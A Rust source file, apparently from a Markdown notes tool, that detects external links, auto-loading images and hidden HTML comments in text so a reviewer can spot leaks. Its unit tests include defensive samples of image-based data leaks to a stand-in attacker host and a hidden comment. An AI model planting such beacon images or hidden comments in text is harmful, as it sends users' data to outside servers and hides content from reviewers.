//! Parts of text that lead out of the store, or are invisible when the text is displayed, for a person who decides
//! about text of others.
//!
//! A picture is loaded from its address when the text is displayed, which sends the address to that server. Links and
//! pictures are found as the notebook finds links. Raw HTML is searched in code as well, because another program may
//! treat it as HTML there.

use memchr::{memchr, memchr_iter};

use super::inline::Found;
use super::scanner::Blocks;
use super::tags::Names;
use super::text::{head, looked_at};
use super::types::{Counted, LinkKind, SHOWN_BYTES, TagSyntax};
use saddlebag_collections::TextPart;

/// Maximum length of a tag of HTML in bytes.
const MAX_TAG_BYTES: usize = 4_096;
/// Average number of times that a byte of the text is examined for tags of HTML.
const LOOKS: usize = 16;

/// Parts of text that lead out of the store, or are invisible.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Outside {
    /// Links to an address with a scheme.
    pub links: Counted,
    /// Parts that are loaded when the text is displayed: pictures in Markdown, and tags of HTML with an address.
    pub images: Counted,
    /// Comments of HTML.
    pub comments: Counted,
}

impl Outside {
    /// Examines the text. The time is linear in its size.
    pub fn from_text(text: &str) -> Self {
        let blocks = Blocks::scan(text, 0);
        let mut found = Found::new(text, TagSyntax::default(), Names::default());
        for block in &blocks.list {
            found.read(&blocks, &blocks.content(text, block));
        }
        let mut outside = Self { images: found.pictures, ..Self::default() };
        let links = found.links.iter().filter(|link| link.is_external && link.kind != LinkKind::Image);
        links.for_each(|link| outside.links.add(&link.target));
        outside.read_html(text);
        outside
    }

    fn read_html(&mut self, text: &str) {
        let mut budget = text.len().saturating_mul(LOOKS).saturating_add(MAX_TAG_BYTES);
        let mut read_to = 0;
        for start in memchr_iter(b'<', text.as_bytes()) {
            if start < read_to {
                continue;
            }
            let inner = text.part(start + 1..);
            if let Some(comment) = inner.strip_prefix("!--") {
                let comment = head(comment, SHOWN_BYTES);
                looked_at(comment.len());
                self.comments.add(comment.split("-->").next().unwrap_or(comment));
                continue;
            }
            let name = inner.find(|c: char| !c.is_ascii_alphanumeric() && c != '-').unwrap_or(inner.len());
            looked_at(name);
            let (name, rest) = inner.split_at(name.min(head(inner, MAX_TAG_BYTES).len()));
            let is_tag = name.starts_with(|c: char| c.is_ascii_alphabetic())
                && rest.starts_with(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>'));
            if !is_tag {
                continue;
            }
            let rest = head(rest, MAX_TAG_BYTES);
            let Some(left) = budget.checked_sub(rest.len()) else {
                // Nobody writes so much HTML, and a person who decides about the text must not take it for harmless.
                self.images.add("more HTML than is examined");
                return;
            };
            budget = left;
            looked_at(rest.len());
            let Some(attributes) = end_of_tag(rest).and_then(|end| rest.get(..end)) else { continue };
            read_to = start + 1 + name.len() + attributes.len();
            let Some(address) = address(attributes) else { continue };
            match name.to_ascii_lowercase().as_str() {
                "a" | "area" => self.links.add(address),
                _ => self.images.add(address),
            }
        }
    }
}

/// Returns the `>` that ends a tag: the first one outside of quotes, else the first.
fn end_of_tag(rest: &str) -> Option<usize> {
    let mut quote = None;
    let end = rest.bytes().position(|byte| {
        match (quote, byte) {
            (None, b'"' | b'\'') => quote = Some(byte),
            (Some(open), _) if open == byte => quote = None,
            _ => {}
        }
        byte == b'>' && quote.is_none()
    });
    end.or_else(|| memchr(b'>', rest.as_bytes()))
}

/// Returns the first address in the attributes of a tag: one with a scheme, or the value of an attribute that is
/// loaded.
fn address(attributes: &str) -> Option<&str> {
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ')' | '`');
    let words = || attributes.split(ends).filter(|word| !word.is_empty());
    let has_scheme = |word: &&str| {
        let schemes = ["javascript:", "data:", "mailto:", "//"];
        word.contains("://") || schemes.iter().any(|scheme| head(word, scheme.len()).eq_ignore_ascii_case(scheme))
    };
    words().find(has_scheme)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::steps;
    use saddlebag_collections::prelude::*;

    fn of(text: &str) -> [(u32, String); 3] {
        let Outside { links, images, comments } = Outside::from_text(text);
        [links, images, comments].map(|counted| (counted.count, counted.first))
    }

    fn counts(text: &str) -> [u32; 3] {
        of(text).map(|(count, _)| count)
    }

    #[test]
    fn links_pictures_and_comments_are_counted_and_the_first_is_named() {
        let text = "See [the docs](https://a.example/x), https://b.example and [[note]].\n\n\
            ![chart](https://evil.example/?q=secret) ![](//cdn.example/y.png)\n\n<!-- hidden order -->\n";
        let expected = [
            (2, "https://a.example/x".to_string()),
            (2, "https://evil.example/?q=secret".to_string()),
            (1, "hidden order".to_string()),
        ];
        assert_eq!(of(text), expected);
    }

    #[test]
    fn every_way_to_write_a_picture_is_found() {
        for text in [
            "![x][ref]\n\n[ref]: https://evil.example/a.png\n",
            "![ref]\n\n[ref]: https://evil.example/a.png\n",
            "[![x](https://evil.example/a.png)](note.md)",
            "# A title ![x](https://evil.example)\n",
            "- item\n  > ![x](<https://evil.example/a b>)\n",
            "![a](data:image/png;base64,AAAA)",
            "<IMG alt='x' src='https://evil.example/a.png'>",
            "text <img\nsrc=//evil.example/a.png\n> text",
            "<div style=\"background:url(https://evil.example/a)\">\n</div>",
            "<img alt=\"a > b\" src=\"https://evil.example/a.png\">",
            "<img alt='<' src='https://evil.example/a.png'>",
            "<img alt=\" src=https://evil.example/a.png>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "![x](https&#58;//evil.example/a.png)",
        ] {
            assert_eq!(counts(text)[1], 1, "{text:?}");
        }
    }

    #[test]
    fn links_inside_the_store_are_not_counted() {
        for text in [
            "",
            "plain text, a < b and c > d, Vec<String>",
            "[note](facts/port.md) ![chart](chart.png) ![[chart.png]] [[note]] [up](#heading)",
            "<b>bold</b> <br/> <details><summary>x</summary></details>",
            "`https://a.example`",
        ] {
            assert_eq!(counts(text), [0, 0, 0], "{text:?}");
        }
        assert_eq!(counts("<a href=\"https://a.example\">x</a> <https://b.example> <mailto:a@b.example>")[1], 0);
    }

    #[test]
    fn the_time_is_linear_in_the_size_of_html_too() {
        for piece in
            ["<", "<!--", "![", "<a ", "](//", "<img src=\"", "<a \"", "![x](http://a)", "é<é", "<aaaaaaaa", "<a b='>'"]
        {
            let looked_at = |size: usize| {
                let before = steps::taken();
                let _ = Outside::from_text(&piece.repeat(size / piece.len()));
                steps::taken() - before
            };
            let (once, twice) = (looked_at(128 << 10), looked_at(256 << 10));
            assert!(twice <= 2 * once + 10_000, "{piece:?}: {once} and {twice} bytes");
        }
    }
}
